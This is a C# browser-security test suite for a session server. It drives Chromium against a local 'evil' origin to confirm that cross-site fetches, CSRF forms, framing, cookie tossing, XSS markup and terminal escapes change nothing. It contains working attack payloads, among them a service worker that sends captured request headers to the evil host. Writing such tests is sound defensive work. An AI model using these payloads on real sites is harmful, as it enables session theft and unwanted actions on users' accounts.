using System.Collections.Concurrent;
using System.Text.RegularExpressions;
using System.Threading.Channels;
using Berth.Server.Tests.Api;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Hosting;
using Microsoft.AspNetCore.Http;
using Microsoft.Extensions.Logging;
using Microsoft.Playwright;

namespace Berth.Server.Tests.Strangers;

/// <summary>
/// A session whose pages are hostile, in a real browser that is signed in on the server and has another session open: none
/// of what a page can try changes or reads anything outside its own origin.
/// </summary>
[Trait("Needs", "browser")]
public abstract class HostilePages(SessionWorld world) : IAsyncLifetime
{
    protected SessionWorld World => world;

    protected ConcurrentQueue<string> Stolen { get; } = [];
    private WebApplication _evil = null!;
    private IPlaywright _playwright = null!;
    private IBrowser _chromium = null!;
    protected IBrowserContext Context { get; private set; } = null!;
    protected Berth.Server.Tests.Api.Api User { get; private set; } = null!;
    protected string Bad { get; private set; } = "";
    protected string Good { get; private set; } = "";
    protected IPage Page { get; private set; } = null!;

    protected static CancellationToken Ct => TestContext.Current.CancellationToken;

    public async ValueTask InitializeAsync()
    {
        var builder = WebApplication.CreateSlimBuilder();
        builder.Logging.ClearProviders();
        builder.WebHost.UseUrls("http://127.0.0.1:0");
        _evil = builder.Build();
        _evil.Run(EvilAsync);
        await _evil.StartAsync(Ct);
        _playwright = await Playwright.CreateAsync();
        _chromium = await _playwright.Chromium.LaunchAsync(new()
        {
            ExecutablePath = "/usr/bin/chromium",
            Args = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", $"--host-resolver-rules=MAP *.example.org 127.0.0.1:{world.Address.Port}"],
        });

        (User, var id) = await world.AddUserAsync($"u{Guid.NewGuid().ToString("N")[..8]}");
        (Bad, Good) = (await world.RunAsync(User, new Uri(_evil.Urls.First()).Port), await world.RunAsync(User));
        Context = await _chromium.NewContextAsync();
        Page = await Context.NewPageAsync();
        await Page.GotoAsync(await world.LinkAsync(id));
        await Page.GotoAsync(world.OriginOf(Good) + "/lab");
        await Page.GotoAsync(world.OriginOf(Bad) + "/");
        Assert.Equal("evil", await Page.TitleAsync());
    }

    public async ValueTask DisposeAsync()
    {
        GC.SuppressFinalize(this);
        await _chromium.DisposeAsync();
        _playwright.Dispose();
        await _evil.StopAsync(CancellationToken.None);
        await _evil.DisposeAsync();
    }

    [Fact]
    public async Task RequestsOfAScriptReadNothingAndChangeNothing()
    {
        var before = await StateAsync();
        foreach (var (method, path, type, body) in new[]
        {
            ("GET", "/api/data/user", "", ""), ("GET", "/api/berth/sessions", "", ""), ("GET", "/", "", ""), ("GET", "/tokens", "", ""), ("GET", "/api/berth/events", "", ""),
            ("POST", "/api/berth/tokens", "application/json", """{"name":"stolen"}"""), ("POST", "/api/berth/tokens", "text/plain", """{"name":"stolen"}"""),
            ("POST", $"/api/berth/sessions/{Good}/stop", "", ""), ("POST", $"/sessions/{Good}/stop", "application/x-www-form-urlencoded", "delete_work=true"),
            ("DELETE", $"/api/data/sessions/{Good}", "", ""), ("POST", "/sign-out", "application/x-www-form-urlencoded", ""),
            ("POST", "/api/berth/sign_in_links", "text/plain", "{}"), ("POST", "/api/berth/password", "text/plain", """{"password":"correct horse"}"""),
        })
        {
            foreach (var mode in new[] { "cors", "no-cors" })
                Assert.Equal("nothing", await Page.EvaluateAsync<string>(
                    """
                    async ([url, method, type, body, mode]) => {
                        if (mode === 'no-cors' && !['GET', 'POST'].includes(method)) return 'nothing';
                        try {
                            const answer = await fetch(url, { method, mode, credentials: 'include', headers: type ? { 'Content-Type': type } : {}, body: method === 'GET' ? undefined : body });
                            const text = await answer.text();
                            return text ? `${answer.status} ${text}` : 'nothing';
                        } catch { return 'nothing'; }
                    }
                    """, new[] { world.Origin + path, method, type, body, mode }));
        }

        // The other session's origin is a site of its own, too.
        Assert.Equal("nothing", await Page.EvaluateAsync<string>(
            "async url => { try { const a = await fetch(url, { credentials: 'include' }); return await a.text(); } catch { return 'nothing'; } }", world.OriginOf(Good) + "/api/kernels"));
        Assert.Equal(before, await StateAsync());
    }

    [Theory]
    [InlineData("application/x-www-form-urlencoded")]
    [InlineData("multipart/form-data")]
    [InlineData("text/plain")]
    public async Task FormsChangeNothing(string encoding)
    {
        var before = await StateAsync();
        // One subscription for all: one that is made anew for each now and then misses its answer.
        var answers = Channel.CreateUnbounded<IResponse>();
        Page.Response += (_, response) =>
        {
            if (response.Request.Method == "POST")
                answers.Writer.TryWrite(response);
        };
        foreach (var target in new[]
        {
            $"{world.Origin}/sessions/{Good}/stop", $"{world.Origin}/sessions/{Good}/pause", $"{world.Origin}/tokens", $"{world.Origin}/sign-out", $"{world.Origin}/projects",
            $"{world.Origin}/api/berth/sessions/{Good}/stop", $"{world.Origin}/api/berth/tokens", $"{world.OriginOf(Good)}/api/contents", $"{world.OriginOf(Good)}/_berth/resume",
        })
        {
            await Page.EvaluateAsync(
                """
                ([action, enctype]) => {
                    const frame = document.createElement('iframe');
                    frame.name = `to ${action}`;
                    const form = document.createElement('form');
                    Object.assign(form, { method: 'post', action, enctype, target: frame.name });
                    form.innerHTML = '<input name=name value=stolen><input name=delete_work value=true><input name=\'{"name":"stolen","x":"\' value=\'"}\'>';
                    document.body.append(frame, form);
                    form.submit();
                }
                """, new[] { target, encoding });
            var answer = await answers.Reader.ReadAsync(Ct).AsTask().WaitAsync(TimeSpan.FromSeconds(30), Ct);
            Assert.Equal(target, answer.Url);
            // Refused, or sent to sign in, for a browser takes no cookie along to another site.
            Assert.True(answer.Status is 401 or 403 or 415 || (answer.Status is 302 && answer.Headers["location"].StartsWith("/sign-in", StringComparison.Ordinal)), $"{answer.Status} {target}");
        }

        Assert.Equal(before, await StateAsync());
    }

    [Fact]
    public async Task NavigationsImagesAndSocketsChangeNothing()
    {
        var before = await StateAsync();
        var said = await Page.EvaluateAsync<string[]>(
            """
            async ([server, good, other]) => {
                const said = [];
                const over = (element, ...names) => new Promise(done => names.forEach(name => element.addEventListener(name, () => done(name))));
                for (const path of [`/sessions/${good}/stop`, `/sessions/${good}/pause`, '/sign-out', `/api/berth/sessions/${good}/stop`]) {
                    const image = new Image();
                    const loaded = over(image, 'load', 'error');
                    image.src = server + path;
                    said.push(`image ${await loaded}`);
                }
                for (const url of [`${server}/api/berth/events`, `${server}/`, `${other}/socket`].map(u => u.replace('http', 'ws'))) {
                    const socket = new WebSocket(url);
                    said.push(`socket ${await over(socket, 'open', 'error')}`);
                }
                const events = new EventSource(`${server}/api/berth/events`, { withCredentials: true });
                said.push(`events ${await over(events, 'open', 'error')}`);
                events.close();
                for (const script of [`${server}/api/data/user`, `${server}/api/berth/sessions`]) {
                    const element = document.createElement('script');
                    const loaded = over(element, 'load', 'error');
                    element.src = script;
                    document.body.append(element);
                    said.push(`script ${await loaded}`);
                }
                return said;
            }
            """, new[] { world.Origin, Good, world.OriginOf(Good) });
        Assert.All(said, line => Assert.EndsWith(" error", line, StringComparison.Ordinal));

        foreach (var path in new[] { $"/sessions/{Good}/stop", "/sign-out", $"/api/berth/sessions/{Good}/stop", $"/sessions/{Good}/pause" })
        {
            var opened = await Page.RunAndWaitForPopupAsync(() => Page.EvaluateAsync("url => { window.w = window.open(url, '_blank'); }", world.Origin + path));
            await opened.WaitForLoadStateAsync();
            // The opener has no way to it: neither its content nor its messages.
            Assert.True(await Page.EvaluateAsync<bool>("() => { if (!window.w || window.w.closed) return true; try { return !window.w.document; } catch { return true; } }"));
            Assert.True(await opened.EvaluateAsync<bool>("() => window.opener === null || !isSecureContext"));
            await opened.CloseAsync();
        }

        Assert.Equal(before, await StateAsync());
    }

    [Fact]
    public async Task NeitherTheServersPagesNorAnotherSessionCanBeFramed()
    {
        foreach (var url in new[] { world.Origin + "/", world.Origin + "/tokens", world.Origin + $"/sessions/{Good}/stop", world.OriginOf(Good) + "/lab" })
        {
            await Page.EvaluateAsync(
                "url => new Promise(done => { const f = document.createElement('iframe'); f.src = url; f.onload = done; f.onerror = done; document.body.append(f); })", url);
            var frame = Page.Frames[^1];
            Assert.True((await frame.ContentAsync()).Contains("ERR_BLOCKED_BY_RESPONSE", StringComparison.Ordinal), $"{url} was framed");
        }

        // Its own pages a session may frame: notebooks do.
        await Page.EvaluateAsync("() => new Promise(done => { const f = document.createElement('iframe'); f.src = '/own'; f.onload = done; document.body.append(f); })");
        Assert.Equal("evil", await Page.Frames[^1].TitleAsync());
    }

    [Fact]
    public async Task NamesAndLogsWithMarkupAreText()
    {
        const string markup = "<img src=x onerror=\"window.hurt=1\"><script>window.hurt=1</script>";
        var user = (await User.GetAsync("/api/data/user")).Ok().Text("username");
        var project = (await User.PostAsync("/api/data/projects", new { name = markup, @namespace = user, description = markup })).Created().Text("id");
        var launcher = (await User.PostAsync("/api/data/session_launchers", new
        {
            project_id = project,
            name = markup,
            description = markup,
            environment = new { name = markup, container_image = "busybox" },
        })).Created().Text("id");
        await world.AgentOf(Good).LogAsync(0, System.Text.Encoding.UTF8.GetBytes($"{markup}\n\e]52;c;aHVydA==\aa\e[31mred\e[0m\e[2Jend\n"), Ct);
        await world.AgentOf(Good).SayAsync(new Berth.Contracts.Agents.AgentReport("ready", markup, true, null, [markup + "\e]0;title\a"]), Ct);
        var page = await Context.NewPageAsync();
        foreach (var path in new[] { "/", "/sessions", $"/sessions/{Good}", "/launchers", $"/launchers/{launcher}", $"/launchers/{launcher}/delete", "/projects", $"/projects/{project}", $"/projects/{project}/edit" })
        {
            Assert.Equal((path, 200), (path, (await page.GotoAsync(world.Origin + path))!.Status));
            if (path == $"/sessions/{Good}")
                await page.Locator("#log").GetByText("redend").WaitForAsync();
            Assert.Equal(0, await page.Locator("img[src=x]").CountAsync());
            Assert.False(await page.EvaluateAsync<bool>("() => 'hurt' in window"));
        }

        Assert.DoesNotContain('\e', (await User.GetAsync($"/api/berth/sessions/{Good}")).Ok().ToString());
    }

    /// <summary>All that the user has.</summary>
    protected async Task<string> StateAsync()
    {
        var sessions = (await User.GetAsync("/api/berth/sessions")).Ok().EnumerateArray().Select(s => s.Text("id") + s.GetProperty("berth").Text("status"));
        var tokens = (await User.GetAsync("/api/berth/tokens")).Ok().EnumerateArray().Select(t => t.Text("name"));
        var projects = (await User.GetAsync("/api/data/projects")).Ok().EnumerateArray().Select(p => p.Text("name"));
        // Signed in in this browser still.
        var cookies = string.Join("; ", (await Context.CookiesAsync([world.Origin])).Select(c => $"{c.Name}={c.Value}"));
        var who = await world.Anonymous.GetAsync("/api/data/user", ("Cookie", cookies));
        return string.Join('\n', sessions.Concat(tokens).Concat(projects).Append($"{who.Status}"));
    }

    private Task EvilAsync(HttpContext context)
    {
        Stolen.Enqueue(string.Join('\n', context.Request.Headers.Where(h => h.Key != "Authorization").Select(h => $"{h.Key}: {h.Value}")));
        if (context.Request.Path == "/worker.js")
        {
            context.Response.ContentType = "text/javascript";
            context.Response.Headers["Service-Worker-Allowed"] = "/";
            return context.Response.WriteAsync(
                "self.addEventListener('install', () => self.skipWaiting()); self.addEventListener('activate', e => e.waitUntil(clients.claim()));"
                + "self.addEventListener('fetch', e => { fetch('/stolen', { headers: { 'X-Stolen': [...e.request.headers].join('; ') } }); });", Ct);
        }

        context.Response.ContentType = "text/html";
        context.Response.Headers.ContentSecurityPolicy = "frame-ancestors *";
        if (context.Request.Path == "/cookies")
        {
            foreach (var name in context.Request.Query.Keys)
            {
                context.Response.Headers.Append("Set-Cookie", $"{name}=tossed; Path=/");
                context.Response.Headers.Append("Set-Cookie", $"{name}=tossed; Path=/; Domain=localhost");
                context.Response.Headers.Append("Set-Cookie", $" {name}=tossed; Path=/sessions; Domain=.localhost");
            }
        }

        return context.Response.WriteAsync("<!doctype html><title>evil</title><body>", Ct);
    }
}

/// <summary>On one machine, where each name below localhost is a site of its own.</summary>
public sealed class HostilePageTests(SessionWorld world) : HostilePages(world), IClassFixture<SessionWorld>
{
    [Fact]
    public async Task CookiesOfASiblingTakeNobodysPlace()
    {
        var port = World.Address.Port;
        var before = await StateAsync();
        var mine = await Context.CookiesAsync([World.Origin]);
        var names = new[] { $"berth-{port}", "berth-gate-" + Good, "berth-nonce-" + Good, "__Host-berth", ".AspNetCore.Antiforgery" };
        await Page.EvaluateAsync(
            """
            ([names, hosts]) => {
                for (const name of names)
                    for (const host of hosts)
                        for (const path of ['/', '/api', '/sessions', '/tokens'])
                            for (const extra of ['', '; Secure', '; SameSite=None; Secure'])
                                document.cookie = `${name}=tossed; Domain=${host}; Path=${path}${extra}`;
            }
            """, new object[] { names, new[] { "localhost", ".localhost", new Uri(World.OriginOf(Good)).Host, "127.0.0.1" } });
        // And by the app's own answers.
        await Page.GotoAsync(World.OriginOf(Bad) + "/cookies?" + string.Join('&', names));
        Assert.DoesNotContain((await Context.CookiesAsync([World.Origin, World.OriginOf(Good)])).Select(c => c.Value), v => v.Contains("tossed", StringComparison.Ordinal));
        Assert.Equal(mine.Select(c => c.Value), (await Context.CookiesAsync([World.Origin])).Select(c => c.Value));
        await Page.GotoAsync(World.Origin + "/");
        Assert.DoesNotContain("/sign-in", Page.Url, StringComparison.Ordinal);
        await Page.GotoAsync(World.OriginOf(Good) + "/lab");
        Assert.Contains("\"Target\":\"/lab\"", await Page.ContentAsync(), StringComparison.Ordinal);
        Assert.DoesNotContain("tossed", await Page.ContentAsync(), StringComparison.Ordinal);
        Assert.Equal(before, await StateAsync());
    }

    [Fact]
    public async Task AServiceWorkerServesItsOwnOriginOnlyAndSeesNoCookie()
    {
        Assert.Equal("registered", await Page.EvaluateAsync<string>(
            "async () => { const r = await navigator.serviceWorker.register('/worker.js', { scope: '/' }); await navigator.serviceWorker.ready; return r ? 'registered' : ''; }"));
        foreach (var origin in new[] { World.Origin, World.OriginOf(Good) })
            Assert.Equal("refused", await Page.EvaluateAsync<string>(
                """
                async origin => {
                    for (const [script, scope] of [[`${origin}/worker.js`, undefined], ['/worker.js', `${origin}/`]])
                        try { await navigator.serviceWorker.register(script, { scope }); return 'registered'; } catch { }
                    return 'refused';
                }
                """, origin));
        // It sits between this origin's way in and the browser, and has nothing of it but a ticket that is spent.
        await Page.GotoAsync($"{World.Origin}/sessions/{Bad}/open");
        await Page.GotoAsync(World.OriginOf(Good) + "/lab");
        Assert.Contains("\"Target\":\"/lab\"", await Page.ContentAsync(), StringComparison.Ordinal);
        await Page.GotoAsync(World.Origin + "/");
        Assert.NotEqual("evil", await Page.TitleAsync());
        Assert.DoesNotContain(Stolen, line => Regex.IsMatch(line, "berth-|front-end|Bearer", RegexOptions.IgnoreCase));
    }
}

/// <summary>Under one domain, where they are all one site.</summary>
public sealed class HostileSiblingTests(DomainWorld world) : HostilePages(world), IClassFixture<DomainWorld>;
